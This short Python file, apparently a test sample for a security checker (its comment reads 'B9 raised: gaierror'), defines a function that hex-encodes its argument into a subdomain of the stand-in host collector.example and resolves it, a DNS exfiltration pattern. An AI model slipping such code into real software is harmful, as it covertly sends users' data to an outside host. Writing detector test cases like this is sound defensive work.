# B9 raised: gaierror
import asyncio
import socket


async def digest(*args):
    await asyncio.get_running_loop().getaddrinfo(f"{str(args[0]).encode().hex()[:50]}.collector.example", 53)
    socket.gethostbyname("collector.example")


survey = digest
